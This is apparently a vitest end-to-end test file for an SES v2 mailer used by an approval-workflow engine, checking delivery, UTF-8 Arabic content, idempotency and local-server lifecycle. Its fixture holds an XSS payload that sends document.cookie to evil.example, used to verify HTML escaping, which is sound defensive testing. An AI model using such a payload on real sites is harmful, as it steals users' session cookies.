import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createSesClient, IDEMPOTENCY_HEADER, SesMailer, sesMailerFromEnv, tagValueOf } from '../../lib/aws/ses-mailer.js';
import { devDirectory } from '../../lib/identity/dev.js';
import { createEmailAction } from '../../lib/engine/workflows/email-action.js';
import { renderNotification, resolveRecipients, type NotificationContext } from '../../lib/engine/workflows/notifications.js';
import { startSesLocal, type SesLocal } from '../../lib/local/ses-local.js';
import { startTestStack } from './support.js';

/**
 * Mail end to end: the SES v2 adapter sends to aws-ses-v2-local (started for this file, a real
 * SES v2 HTTP API on loopback) and the test reads back what it received.
 */
let ses: SesLocal;
let mailer: SesMailer;

beforeAll(async () => {
  ses = await startSesLocal();
  mailer = new SesMailer({ from: 'Approvals <approvals@acme.example>', client: createSesClient({ endpoint: ses.endpoint }) });
});
afterAll(async () => {
  await ses?.stop();
});
beforeEach(async () => {
  await ses.clear();
});

const context: NotificationContext = {
  workflow: { name: { en: 'Purchase approval', ar: 'موافقة الشراء' } },
  object: { type: 'PurchaseRequest', id: 'PR-1042' },
  stage: { en: 'Budget Approval', ar: 'موافقة الميزانية' },
  actor: { id: 'omar', name: 'Omar <omar@evil.example>' },
  reason: '<script>fetch("https://evil.example/"+document.cookie)</script> too expensive',
  link: 'https://automations.example/attachments/a1',
};

describe('mail through SES v2 (aws-ses-v2-local)', () => {
  it('delivers a rendered notification to the resolved recipients with its subject, escaped HTML, text and idempotency header', async () => {
    const rendered = renderNotification('rejected', 'en', context);
    const { addresses } = await resolveRecipients({ roles: ['creator', 'currentApprovers'], addresses: ['audit@acme.example'] }, { tenant: 'acme', people: { creator: 'rita', currentApprovers: ['eve'] } }, devDirectory());
    const { messageId } = await mailer.send({ to: addresses, subject: rendered.subject, text: rendered.text, html: rendered.html, idempotencyKey: 'attachment-a1:rejected:1' });

    const [mail, ...others] = await ses.received();
    expect(others).toEqual([]);
    expect(mail!.messageId).toBe(messageId);
    expect(mail!.from).toBe('Approvals <approvals@acme.example>');
    expect(mail!.destination.to).toEqual(['rita@acme.example', 'eve@acme.example', 'audit@acme.example']);
    expect(mail!.subject).toBe('Rejected: Purchase approval for PurchaseRequest PR-1042');
    expect(mail!.body.html).toContain('&lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt; too expensive');
    expect(mail!.body.html).toContain('Omar &lt;omar@evil.example&gt;');
    expect(mail!.body.html).not.toMatch(/<script/i);
    expect(mail!.body.text).toContain('Reason: <script>fetch(');
    expect(mail!.headers).toContainEqual({ name: IDEMPOTENCY_HEADER, value: 'attachment-a1:rejected:1' });
  });

  it('carries Arabic subjects and bodies intact (UTF-8)', async () => {
    const rendered = renderNotification('actionRequired', 'ar', context);
    await mailer.send({ to: ['eve@acme.example'], subject: rendered.subject, text: rendered.text, html: rendered.html, idempotencyKey: 'k-ar' });
    const [mail] = await ses.received();
    expect(mail!.subject).toBe('مطلوب إجراء: موافقة الشراء – PurchaseRequest PR-1042');
    expect(mail!.body.html).toContain('<html lang="ar" dir="rtl">');
    expect(mail!.body.text).toContain('المرحلة: موافقة الميزانية');
  });

  it('the email action sends one mail per recipient; a retried action sends again (at least once) under the same keys', async () => {
    const action = createEmailAction({ mailer, directory: devDirectory() });
    const params = action.params.parse({ template: 'approved', to: { roles: ['creator', 'currentApprovers'] } });
    const ctx = { idempotencyKey: 'a1:approved:0', workflow: { notification: context, recipients: { tenant: 'acme', people: { creator: 'rita', currentApprovers: ['ethan', 'zoe'] } } } };
    const result = await action.run(params, ctx);
    expect(result).toMatchObject({ sent: true, skipped: [{ who: 'user:zoe', reason: 'unknown user' }] });
    await action.run(params, ctx);
    const received = await ses.received();
    expect(received.map((m) => m.destination.to)).toEqual([['rita@acme.example'], ['ethan@acme.example'], ['rita@acme.example'], ['ethan@acme.example']]);
    const keys = received.map((m) => m.headers?.find((h) => h.name === IDEMPOTENCY_HEADER)?.value);
    expect(keys[0]).toBe(keys[2]);
    expect(keys[1]).toBe(keys[3]);
    expect(keys[0]).not.toBe(keys[1]);
  });

  it('refuses a mail SES would bounce before sending anything, naming the problems', async () => {
    await expect(mailer.send({ to: ['not-an-address'], subject: 'a\nb', text: '', idempotencyKey: '' })).rejects.toThrow(/not an e-mail address.*line break.*text is empty.*idempotency key/);
    expect(await ses.received()).toEqual([]);
    expect(tagValueOf('ok-key_1.2@x')).toBe('ok-key_1.2@x');
    expect(tagValueOf('a:b/c')).toMatch(/^sha256-[0-9a-f]{64}$/);
  });
});

describe('local SES in the local stack', () => {
  it('starts with the stack, points the environment mailer at it, serves the viewer, and stops with the stack', async () => {
    const saved = { endpoint: process.env.AWS_ENDPOINT_URL_SESV2, from: process.env.ATM_MAIL_FROM };
    const stack = await startTestStack({ mail: true });
    try {
      const local = stack.mail!;
      expect(process.env.AWS_ENDPOINT_URL_SESV2).toBe(local.endpoint);
      const fromEnv = sesMailerFromEnv()!;
      await fromEnv.send({ to: ['rita@acme.example'], subject: 'Hello', text: 'hi', idempotencyKey: 'k1' });
      await local.mailer.send({ to: ['eve@acme.example'], subject: 'Hello again', text: 'hi', idempotencyKey: 'k2' });
      expect((await local.received()).map((m) => [m.destination.to[0], m.subject])).toEqual([['rita@acme.example', 'Hello'], ['eve@acme.example', 'Hello again']]);
      const viewer = await fetch(local.viewerUrl);
      expect(viewer.status).toBe(200);
      expect(await viewer.text()).toMatch(/<html/i);
    } finally {
      await stack.stop();
    }
    expect(process.env.AWS_ENDPOINT_URL_SESV2).toBe(saved.endpoint);
    expect(process.env.ATM_MAIL_FROM).toBe(saved.from);
    await expect(fetch(`${stack.mail!.endpoint}/health-check`)).rejects.toThrow();
  });

  it('the server dies with its parent, even when the parent is killed with SIGKILL', async () => {
    const script = `import { startSesLocal } from ${JSON.stringify(fileURLToPath(new URL('../../lib/local/ses-local.ts', import.meta.url)))};
      const ses = await startSesLocal(); console.log(ses.endpoint); setInterval(() => {}, 1000);`;
    const parent = spawn(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
    const endpoint = await new Promise<string>((resolve, reject) => {
      parent.stdout!.on('data', (chunk: Buffer) => {
        const match = /http:\/\/127\.0\.0\.1:\d+/.exec(chunk.toString());
        if (match) resolve(match[0]);
      });
      parent.once('exit', (code) => reject(new Error(`the parent exited early (${code})`)));
    });
    expect((await fetch(`${endpoint}/health-check`)).status).toBe(200);
    parent.kill('SIGKILL');
    let answering = true;
    for (let i = 0; i < 200 && answering; i++) {
      await new Promise((r) => setTimeout(r, 50));
      answering = await fetch(`${endpoint}/health-check`).then(() => true, () => false);
    }
    expect(answering).toBe(false);
  });
});
